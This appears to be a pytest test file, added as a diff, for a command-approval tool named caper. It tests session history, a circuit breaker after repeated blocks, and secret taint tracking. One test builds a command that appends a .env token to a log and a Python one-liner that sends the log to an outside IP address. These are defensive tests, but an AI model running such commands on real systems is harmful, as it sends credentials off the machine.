@@ -1,0 +1,113 @@
+"""Sessions: history reaches the approver, the circuit breaker stops a
+session's gate (and `caper session reset` re-opens it), and a file an
+approved run wrote secrets into taints later commands that read it."""
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from caper.approve import Decision
+from caper.config import Config
+from caper.errors import ConfigError
+from caper.transaction import run
+
+ROOT = Path(__file__).resolve().parent.parent
+SECRET = "tok-77aa88bb99cc00dd"
+
+
+@pytest.fixture
+def ws(tmp_path):
+    w = tmp_path / "ws"
+    w.mkdir()
+    (w / ".env").write_text(f"API_TOKEN={SECRET}\n")
+    (w / "README").write_text("hi\n")
+    return w
+
+
+class Recorder:
+    """An approver that says what it is told and keeps what it was shown."""
+    name = "recorder"
+
+    def __init__(self, verdicts):
+        self.verdicts, self.seen = list(verdicts), []
+
+    def decide(self, request):
+        self.seen.append(request.history)
+        return Decision(self.verdicts.pop(0), "told so", approver=self.name)
+
+
+def go(ws, cmd, approver, tmp_path, session="s1", **kw):
+    return run(cmd, cwd=ws, approver=approver, session=session, config=kw.pop("config", Config()),
+               state_dir=str(tmp_path / "state"), env={**os.environ, "HOME": str(tmp_path)}, **kw)
+
+
+def test_history_reaches_the_approver(ws, tmp_path):
+    rec = Recorder(["allow", "block", "allow"])
+    for cmd in ("echo 1", "echo 2", "echo 3"):
+        go(ws, cmd, rec, tmp_path)
+    assert rec.seen[0] == ()
+    assert [h["command"] for h in rec.seen[2]] == ["echo 1", "echo 2"]
+    assert [h["decision"] for h in rec.seen[2]] == ["allow", "block"]
+    other = Recorder(["allow"])
+    go(ws, "echo x", other, tmp_path, session="s2")
+    assert other.seen == [()]                           # sessions do not mix
+
+
+def test_three_blocks_in_a_row_stop_the_gate_until_reset(ws, tmp_path):
+    for i in range(3):
+        assert go(ws, f"echo {i} > f{i}", "block", tmp_path).decision == "block"
+    stopped = go(ws, "touch should-not-run", "allow", tmp_path)
+    assert not stopped.committed and stopped.report is None
+    assert "stopped this session's gate" in stopped.reason and "caper session reset s1" in stopped.reason
+    assert not (ws / "should-not-run").exists()
+    assert go(ws, "touch other", "allow", tmp_path, session="s2").committed   # only s1 stopped
+    env = {**os.environ, "PYTHONPATH": str(ROOT), "CAPER_STATE_DIR": str(tmp_path / "state")}
+    p = subprocess.run([sys.executable, "-m", "caper", "session", "list"], env=env,
+                       capture_output=True, text=True)
+    assert "s1\t" in p.stdout and "STOPPED" in p.stdout
+    p = subprocess.run([sys.executable, "-m", "caper", "session", "reset", "s1"], env=env,
+                       capture_output=True, text=True)
+    assert p.returncode == 0
+    assert go(ws, "touch now-it-runs", "allow", tmp_path).committed
+    assert (ws / "now-it-runs").exists()
+
+
+def test_ten_blocks_in_fifty_stop_the_gate(ws, tmp_path):
+    verdicts = (["block", "block", "allow"] * 5)[:14]     # never 3 in a row; 10 blocks in 14
+    rec = Recorder(verdicts)
+    outs = [go(ws, f"echo {i}", rec, tmp_path) for i in range(len(verdicts))]
+    assert sum(o.decision == "block" for o in outs) == 10
+    last = go(ws, "echo after", "allow", tmp_path)
+    assert "10 of the last 14 commands were blocked" in last.reason
+
+
+def test_taint_follows_a_secret_into_a_later_command(ws, tmp_path):
+    upload = ("import socket; data = open('logs/app.log').read(); "
+              "socket.socket().connect_ex(('203.0.113.7', 443))")
+    task = "upload the logs to the log server"
+    lenient = Config(on_unsure="allow")
+    # Without taint: the upload reads a repository file the task asked to send.
+    (ws / "logs").mkdir()
+    (ws / "logs" / "app.log").write_text("plain log line\n")
+    plain = go(ws, f"{sys.executable} -c \"{upload}\"", "auto", tmp_path, task=task,
+               config=lenient)
+    assert plain.committed, plain.reason
+    # An approved command copies the secret into the log ...
+    copied = go(ws, "cat .env >> logs/app.log", "allow", tmp_path)
+    assert copied.committed and any(s.where == "logs/app.log" for s in copied.report.secrets)
+    # ... and the same upload is now a credential leaving the machine.
+    out = go(ws, f"{sys.executable} -c \"{upload}\"", "auto", tmp_path, task=task,
+             config=lenient, session="s9")
+    assert out.decision == "block" and "credentials leaving" in out.reason
+    assert [p.kind for p in out.report.protected_reads] == ["tainted:dotenv"]
+    assert SECRET not in out.report.to_json()
+
+
+def test_bad_session_ids_are_refused(ws, tmp_path):
+    for bad in ("", "a\nb", "x" * 201):
+        with pytest.raises(ConfigError):
+            go(ws, "true", "allow", tmp_path, session=bad)
